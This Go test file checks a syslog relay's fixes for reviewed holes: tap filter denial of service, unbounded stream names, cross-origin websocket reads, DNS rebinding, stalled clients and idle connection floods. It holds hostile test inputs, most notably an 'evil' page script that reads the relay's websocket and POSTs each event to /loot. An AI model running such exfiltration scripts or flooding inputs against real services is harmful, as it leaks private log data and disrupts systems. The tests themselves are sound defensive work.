package relay

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"runtime"
	"runtime/debug"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gorilla/websocket"

	"github.com/rsyslog-zmq/relay/internal/event"
	"github.com/rsyslog-zmq/relay/internal/testpeer"
	"github.com/rsyslog-zmq/relay/internal/zmq"
)

// httpAddr is the relay's HTTP address.
func httpAddr(t testing.TB, r *Relay) string {
	t.Helper()
	a := r.HTTPAddr()
	if a == nil {
		t.Fatal("the relay serves no HTTP")
	}
	return a.String()
}

// rawRequest sends one HTTP/1.1 request with the given Host and extra
// header lines over a new connection and returns the status code.
func rawRequest(t testing.TB, addr, method, path, host string, hdr ...string) int {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	req := method + " " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n"
	for _, h := range hdr {
		req += h + "\r\n"
	}
	if _, err := io.WriteString(c, req+"\r\n"); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("%s %s (Host %s): %v", method, path, host, err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

// upgradeHeaders are a websocket upgrade's, with Origin if not empty.
func upgradeHeaders(origin string) []string {
	h := []string{"Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="}
	if origin != "" {
		h = append(h, "Origin: "+origin)
	}
	return h
}

// ingestLoad is a buffer of n octet-counted events alternating between two
// streams, sent as one TCP stream.
func ingestLoad(n int) []byte {
	var buf []byte
	for i := range n {
		app := []string{"impression", "click"}[i%2]
		m := fmt.Sprintf("<14>1 2026-11-22T05:00:00.000Z web1 %s 100 - [ad@32473 user=\"u%d\"] %s", app, i%1000, testpeer.Seq(i))
		buf = fmt.Appendf(buf, "%d %s", len(m), m)
	}
	return buf
}

// ingestRun sends load (n events) on one TCP connection and returns the
// rate at which the PULL peer received them.
func ingestRun(t *testing.T, addr string, pull *zmq.Pull, load []byte, n int) float64 {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	start := time.Now()
	go c.Write(load)
	msgs := make([]zmq.Msg, 1024)
	for got := 0; got < n; {
		k, err := pull.RecvBatch(ctx, msgs)
		if err != nil {
			t.Fatalf("received %d of %d: %v", got, n, err)
		}
		clear(msgs[:k])
		got += k
	}
	return float64(n) / time.Since(start).Seconds()
}

// The review's first hole: the hub matched each tap's globs on the input's
// goroutine, so one websocket tap with a 900 KB glob that never reads made
// 20,000 events take 35.8 s instead of 0.015 s, and eight taps with a
// costly grep slowed ingest ~4x. Now such filters are refused, and the
// costliest ones allowed run on the taps' own goroutines within a CPU
// share: the ingest rate with the hostile tap connected (never reading) is
// at least 60% of the rate without, measured alternately in one test (the
// best of five runs each: the machine is shared). The hole made ingest 4x
// to 2,000x slower. What the design allows is smaller but not nothing:
// the filters may take a quarter of one core (tap.DefaultFilterCPU), and
// on a saturated 2-core machine (make test under -race, other packages'
// tests and other people's work beside) that quarter comes out of ingest:
// measured so, 73-97% over four runs, each run's rates swinging 54k-178k
// ev/s; an 80% bound failed two of the four. Eight of them are
// measured too, and logged.
func TestHostileTapsDoNotSlowIngest(t *testing.T) {
	r := startRelay(t, `
inputs: [{name: in, type: syslog, listen: "tcp://127.0.0.1:0"}]
outputs: [{name: out, socket: push, bind: "tcp://127.0.0.1:0", hwm: 200000}]
http: {listen: "127.0.0.1:0", max_header_bytes: 64KiB}
`)
	addr := inputAddr(t, r, "in", "tcp")
	pull := zmq.NewPull(zmq.Options{RecvHWM: 200000})
	t.Cleanup(func() { pull.Close() })
	if err := pull.Dial(outputEndpoint(t, r, "out")); err != nil {
		t.Fatal(err)
	}
	ha := httpAddr(t, r)

	// The review's tap is refused before it costs anything: its URL is
	// over http.max_header_bytes (raised here to 64 KiB so that the
	// costliest filter allowed below fits), and a shorter one over the
	// glob limit.
	if code := rawRequest(t, ha, "GET", "/v1/tap?stream="+strings.Repeat("a*", 450000), ha, upgradeHeaders("")...); code != http.StatusRequestHeaderFieldsTooLarge {
		t.Fatalf("a 900 KB glob: HTTP %d, want 431", code)
	}
	q := url.Values{"stream": {strings.Repeat("a*", 1000)}}
	if code := rawRequest(t, ha, "GET", "/v1/tap?"+q.Encode(), ha, upgradeHeaders("")...); code != http.StatusBadRequest {
		t.Fatalf("a 2 KB glob: HTTP %d, want 400", code)
	}

	// Runs of a few tenths of a second, whatever the machine (and the race
	// detector) makes of the rate.
	warm := ingestRun(t, addr, pull, ingestLoad(20000), 20000)
	n := min(max(int(warm/4), 20000), 500000)
	load := ingestLoad(n)
	// The costliest filter allowed: every glob at its limit, a grep near
	// the instruction limit, field matches that parse the event.
	var globs []string
	for i := range 32 {
		globs = append(globs, fmt.Sprintf("*%c*", 'A'+i%26)+strings.Repeat("?*", 126))
	}
	hostile := url.Values{"stream": globs, "grep": {`(a|b|c|d|e|f|g|h|i|j)+[0-9]{1,40}(x|y)+Q`}, "match": {"sd:ad@32473.user=nobody", "msgid=nothing"}}
	var taps []net.Conn
	connect := func(k int) {
		for range k {
			c, err := net.Dial("tcp", ha)
			if err != nil {
				t.Fatal(err)
			}
			c.(*net.TCPConn).SetReadBuffer(4096)
			io.WriteString(c, "GET /v1/tap?"+hostile.Encode()+" HTTP/1.1\r\nHost: "+ha+"\r\n"+strings.Join(upgradeHeaders(""), "\r\n")+"\r\n\r\n")
			taps = append(taps, c) // never read
		}
		testpeer.Eventually(t, 10*time.Second, testpeer.Text("hostile taps connected"), func() bool { return r.hub.Stats().Clients == k })
	}
	disconnect := func() {
		for _, c := range taps {
			c.Close()
		}
		taps = nil
		testpeer.Eventually(t, 10*time.Second, testpeer.Text("hostile taps gone"), func() bool { return r.hub.Stats().Clients == 0 })
	}
	best := func(s []float64) float64 {
		b := 0.0
		for _, v := range s {
			b = max(b, v)
		}
		return b
	}
	measure := func(k int) (without, with []float64) {
		for range 5 {
			without = append(without, ingestRun(t, addr, pull, load, n))
			connect(k)
			with = append(with, ingestRun(t, addr, pull, load, n))
			disconnect()
		}
		return without, with
	}
	without, with := measure(1)
	ratio := best(with) / best(without)
	t.Logf("measured: %d events in two streams: without taps %.0f ev/s, with the hostile tap %.0f ev/s: %.0f%% (runs without %.0f, with %.0f)",
		n, best(without), best(with), 100*ratio, without, with)
	if ratio < 0.6 {
		t.Errorf("ingest with the hostile tap is %.0f%% of the rate without, want at least 60%%", 100*ratio)
	}
	without8, with8 := measure(8)
	t.Logf("measured: with 8 hostile taps %.0f ev/s, without %.0f: %.0f%% (runs without %.0f, with %.0f); the taps skipped %d events over their CPU share",
		best(with8), best(without8), 100*best(with8)/best(without8), without8, with8, r.hub.Stats().Throttled)
}

// The review's third hole: names counted, not bytes. 1,200 events with
// distinct 60,000-byte APP-NAMEs made a 60 MB /metrics scrape; two-frame
// ZeroMQ messages with 1 MB stream frames a 200 MB one and 450 MB of heap.
// Now names over stream.max_length (128) become the _overlong stream, and
// the scrape, the rates feed and the heap stay small.
func TestLongStreamNamesBounded(t *testing.T) {
	r := startRelay(t, `
inputs:
  - {name: in, type: syslog, listen: "tcp://127.0.0.1:0"}
  - {name: z, type: zmq, bind: "tcp://127.0.0.1:0", max_message_size: 2MiB}
outputs: [{name: taps, socket: pub, bind: "tcp://127.0.0.1:0"}]
http: {listen: "127.0.0.1:0"}
`)
	ha := httpAddr(t, r)
	rates, _, err := websocket.DefaultDialer.Dial("ws://"+ha+"/v1/tap?rates=1&stream=none", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer rates.Close()
	runtime.GC()
	debug.FreeOSMemory()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)

	var msgs []string
	for i := range 1200 {
		app := fmt.Sprintf("%06d", i) + strings.Repeat("n", 60000-6)
		msgs = append(msgs, fmt.Sprintf("<14>1 2026-11-22T05:00:00.000Z web1 %s 100 - - event %d", app, i))
	}
	sendTCP(t, inputAddr(t, r, "in", "tcp"), true, msgs)
	push := zmq.NewPush(zmq.Options{})
	defer push.Close()
	push.Dial("tcp://" + r.Inputs()["z"].Addrs()[0].String())
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	for i := range 200 {
		stream := []byte(fmt.Sprintf("%06d", i) + strings.Repeat("s", 1<<20-6))
		if err := push.Send(ctx, zmq.Msg{stream, []byte("payload")}); err != nil {
			t.Fatal(err)
		}
	}
	testpeer.Eventually(t, 30*time.Second, func() string { return fmt.Sprint(r.overlong.Load(), " overlong") }, func() bool { return r.overlong.Load() == 1400 })

	// The biggest rates notice the page would get.
	var ratesBytes int
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		rates.SetReadDeadline(deadline)
		_, b, err := rates.ReadMessage()
		if err != nil {
			break
		}
		ratesBytes = max(ratesBytes, len(b))
		if strings.Contains(string(b), "_overlong") {
			break
		}
	}
	start := time.Now()
	resp, err := http.Get("http://" + ha + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	scrape := time.Since(start)
	runtime.GC()
	var after runtime.MemStats
	runtime.ReadMemStats(&after)
	heap := int64(after.HeapInuse) - int64(before.HeapInuse)
	t.Logf("measured: 1,200 distinct 60 kB APP-NAMEs and 200 1 MB stream frames: /metrics %d KB in %v, largest rates notice %d B, heap in use after GC %+.1f MiB",
		len(body)>>10, scrape.Round(time.Millisecond), ratesBytes, float64(heap)/(1<<20))
	if v := metric(t, r, "relay_stream_overlong_total"); v != 1400 {
		t.Errorf("relay_stream_overlong_total = %v, want 1400", v)
	}
	if v := metric(t, r, "relay_stream_events_total", "stream=_overlong"); v != 1400 {
		t.Errorf(`relay_stream_events_total{stream="_overlong"} = %v, want 1400`, v)
	}
	if len(body) > 256<<10 {
		t.Errorf("/metrics is %d KB, want under 256 KB", len(body)>>10)
	}
	if ratesBytes > 4<<10 {
		t.Errorf("a rates notice is %d bytes, want under 4 KiB", ratesBytes)
	}
	if heap > 64<<20 {
		t.Errorf("heap grew %.1f MiB, want under 64 MiB", float64(heap)/(1<<20))
	}
}

// The review's fourth hole, by raw requests: the websocket accepted every
// Origin and the server every Host, so any web page could read the stream
// (and DNS rebinding reach /, /metrics and the tap). Now a foreign Origin
// gets 403 and a foreign Host 421, counted; the relay's own page, clients
// without an Origin, IP addresses, localhost and allowed_hosts still work.
func TestForeignOriginAndHostRefused(t *testing.T) {
	r := startRelay(t, `
inputs: [{name: in, type: syslog, listen: "udp://127.0.0.1:0"}]
http: {listen: "127.0.0.1:0", allowed_hosts: [relay.example.com], allowed_origins: ["https://dash.example.com"]}
`)
	ha := httpAddr(t, r)
	_, port, _ := net.SplitHostPort(ha)
	for _, tc := range []struct {
		path, host, origin string
		upgrade            bool
		want               int
	}{
		{"/v1/tap", ha, "", true, http.StatusSwitchingProtocols},
		{"/v1/tap", ha, "http://" + ha, true, http.StatusSwitchingProtocols},
		{"/v1/tap", ha, "https://dash.example.com", true, http.StatusSwitchingProtocols},
		{"/v1/tap", ha, "http://evil.example", true, http.StatusForbidden},
		{"/v1/tap", ha, "http://127.0.0.1:1", true, http.StatusForbidden},
		{"/v1/tap", "evil.example:" + port, "http://evil.example:" + port, true, http.StatusMisdirectedRequest},
		{"/metrics", "evil.example:" + port, "", false, http.StatusMisdirectedRequest},
		{"/", "evil.example", "", false, http.StatusMisdirectedRequest},
		{"/healthz", "", "", false, http.StatusMisdirectedRequest}, // no name: no browser sends that
		{"/metrics", "localhost:" + port, "", false, http.StatusOK},
		{"/metrics", "[::1]:" + port, "", false, http.StatusOK},
		{"/metrics", "relay.example.com:" + port, "", false, http.StatusOK},
		{"/", "relay.example.com", "", false, http.StatusOK},
	} {
		var hdr []string
		if tc.upgrade {
			hdr = upgradeHeaders(tc.origin)
		}
		if code := rawRequest(t, ha, "GET", tc.path, tc.host, hdr...); code != tc.want {
			t.Errorf("GET %s Host %q Origin %q: HTTP %d, want %d", tc.path, tc.host, tc.origin, code, tc.want)
		}
	}
	if v := metric(t, r, "relay_tap_origin_refused_total"); v != 2 {
		t.Errorf("relay_tap_origin_refused_total = %v, want 2", v)
	}
	if v := metric(t, r, "relay_http_host_refused_total"); v != 4 {
		t.Errorf("relay_http_host_refused_total = %v, want 4", v)
	}
}

// The same in a real browser: a page served from another origin opens the
// relay's websocket (as the review's page did, reading the stream and
// posting it home), and a page loaded through a name that resolves to
// 127.0.0.1 (DNS rebinding, simulated with Chromium's host resolver rules)
// asks for the relay's page. Both are refused; the relay's own page works.
func TestCrossOriginRefusedInChromium(t *testing.T) {
	if testing.Short() {
		t.Skip("headless chromium: skipped with -short")
	}
	r := startRelay(t, `
inputs: [{name: in, type: syslog, listen: "udp://127.0.0.1:0"}]
http: {listen: "127.0.0.1:0"}
`)
	ha := httpAddr(t, r)
	_, port, _ := net.SplitHostPort(ha)
	var mu sync.Mutex
	var posted []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.URL.Path == "/loot" {
			b, _ := io.ReadAll(req.Body)
			mu.Lock()
			posted = append(posted, string(b))
			mu.Unlock()
			return
		}
		fmt.Fprintf(w, `<!doctype html><title>evil</title><script>
window.result = "pending"; window.got = 0;
const ws = new WebSocket("ws://%s/v1/tap");
ws.onopen = () => { window.result = "open"; };
ws.onmessage = (m) => { window.got++; fetch("/loot", {method: "POST", body: m.data}); };
ws.onerror = () => { window.result = "error"; };
ws.onclose = (e) => { if (window.result !== "open") window.result = "refused " + e.code; };
</script>`, ha)
	}))
	defer evil.Close()

	c := testpeer.StartChromium(t, "--host-resolver-rules=MAP rebind.test 127.0.0.1")
	c.Call("Page.enable", nil)
	c.Call("Page.navigate", map[string]any{"url": evil.URL + "/"})
	testpeer.Eventually(t, 15*time.Second, testpeer.Text("the foreign page's websocket settles"), func() bool {
		s := string(c.Eval(`window.result || ""`))
		return s != `""` && s != `"pending"`
	})
	for i := range 20 { // what a reader would have had to read
		r.hub.Publish(tapEvent(i))
	}
	time.Sleep(300 * time.Millisecond)
	result := string(c.Eval(`window.result`))
	got := c.EvalInt(`window.got`)
	mu.Lock()
	loot := len(posted)
	mu.Unlock()
	t.Logf("measured: a page from %s opening ws://%s/v1/tap: %s, %d events read, %d posted home", evil.URL, ha, result, got, loot)
	if strings.Contains(result, "open") || got != 0 || loot != 0 {
		t.Errorf("the foreign page's websocket: %s, %d events, %d posted; want refused and nothing", result, got, loot)
	}
	if v := metric(t, r, "relay_tap_origin_refused_total"); v != 1 {
		t.Errorf("relay_tap_origin_refused_total = %v, want 1", v)
	}

	// DNS rebinding: rebind.test resolves to the relay.
	c.Call("Page.navigate", map[string]any{"url": "http://rebind.test:" + port + "/metrics"})
	testpeer.Eventually(t, 15*time.Second, testpeer.Text("the rebound page loads"), func() bool {
		return strings.Contains(string(c.Eval(`document.body ? document.body.innerText : ""`)), "not served here")
	})
	if body := string(c.Eval(`document.body.innerText`)); strings.Contains(body, "relay_") {
		t.Errorf("the rebound page read the metrics: %.200s", body)
	}
	if v := metric(t, r, "relay_http_host_refused_total"); v < 1 {
		t.Errorf("relay_http_host_refused_total = %v, want at least 1", v)
	}

	// The relay's own page still connects.
	c.Call("Page.navigate", map[string]any{"url": "http://" + ha + "/"})
	testpeer.Eventually(t, 15*time.Second, testpeer.Text("the relay's own page is live"), func() bool {
		return string(c.Eval(`(document.getElementById("status")||{}).textContent||""`)) == `"live"`
	})
}

// The review's fifth hole: no ping and no deadlines, so clients that never
// read held every slot (the 65th got 503 45 s later). With the config's
// tap settings a stalled client is closed within its deadline and the next
// client gets its slot.
func TestStalledTapClosedBySettings(t *testing.T) {
	r := startRelay(t, `
inputs: [{name: in, type: syslog, listen: "udp://127.0.0.1:0"}]
http: {listen: "127.0.0.1:0", tap_max_clients: 1, max_connections: 8, tap_ping_interval: 300ms, tap_write_timeout: 500ms}
`)
	ha := httpAddr(t, r)
	c, err := net.Dial("tcp", ha)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, "GET /v1/tap HTTP/1.1\r\nHost: "+ha+"\r\n"+strings.Join(upgradeHeaders(""), "\r\n")+"\r\n\r\n")
	testpeer.Eventually(t, 5*time.Second, testpeer.Text("stalled client connected"), func() bool { return r.hub.Stats().Clients == 1 })
	if code := rawRequest(t, ha, "GET", "/v1/tap", ha, upgradeHeaders("")...); code != http.StatusServiceUnavailable {
		t.Fatalf("second client while the slot is taken: %d, want 503", code)
	}
	start := time.Now()
	testpeer.Eventually(t, 10*time.Second, testpeer.Text("stalled client closed"), func() bool { return r.hub.Stats().Clients == 0 })
	took := time.Since(start)
	t.Logf("measured: a tap client that never reads is closed after %v (tap_ping_interval 300ms + tap_write_timeout 500ms)", took.Round(time.Millisecond))
	if took > 2*time.Second {
		t.Errorf("closed after %v, want within about 800ms", took)
	}
	if v := metric(t, r, "relay_tap_timed_out_total"); v != 1 {
		t.Errorf("relay_tap_timed_out_total = %v, want 1", v)
	}
	ws, _, err := websocket.DefaultDialer.Dial("ws://"+ha+"/v1/tap", nil)
	if err != nil {
		t.Fatalf("a new client after the stalled one was closed: %v", err)
	}
	ws.Close()
}

// The review's sixth hole, in process: idle keep-alive connections held
// without limit. With max_connections, a flood of idle ones never keeps a
// scrape out: the longest idle makes room, and the total stays capped.
func TestIdleHTTPConnectionsCapped(t *testing.T) {
	r := startRelay(t, `
inputs: [{name: in, type: syslog, listen: "udp://127.0.0.1:0"}]
http: {listen: "127.0.0.1:0", max_connections: 80, tap_max_clients: 4}
`)
	ha := httpAddr(t, r)
	var idle []net.Conn
	for range 300 {
		c, err := net.Dial("tcp", ha)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		io.WriteString(c, "GET /healthz HTTP/1.1\r\nHost: "+ha+"\r\n\r\n") // keep-alive
		idle = append(idle, c)
	}
	for range 5 {
		if code := rawRequest(t, ha, "GET", "/metrics", ha); code != http.StatusOK {
			t.Fatalf("/metrics under an idle flood: %d", code)
		}
	}
	open, peak, refused, evicted := r.httpConns.stats()
	t.Logf("measured: 300 idle keep-alive connections and 5 scrapes with max_connections 80: %d open, peak %d, %d evicted, %d refused", open, peak, evicted, refused)
	if peak > 80 {
		t.Errorf("%d HTTP connections were open at once, over max_connections 80", peak)
	}
	if evicted == 0 {
		t.Error("no idle connection was evicted")
	}
	_ = idle
}

// tapEvent is an event for the hub.
func tapEvent(i int) *event.Event {
	ev := event.New([]byte(fmt.Sprintf("<14>1 2026-11-22T05:00:00.000Z web1 click 100 - - secret %d", i)))
	ev.Stream = "click"
	return ev
}
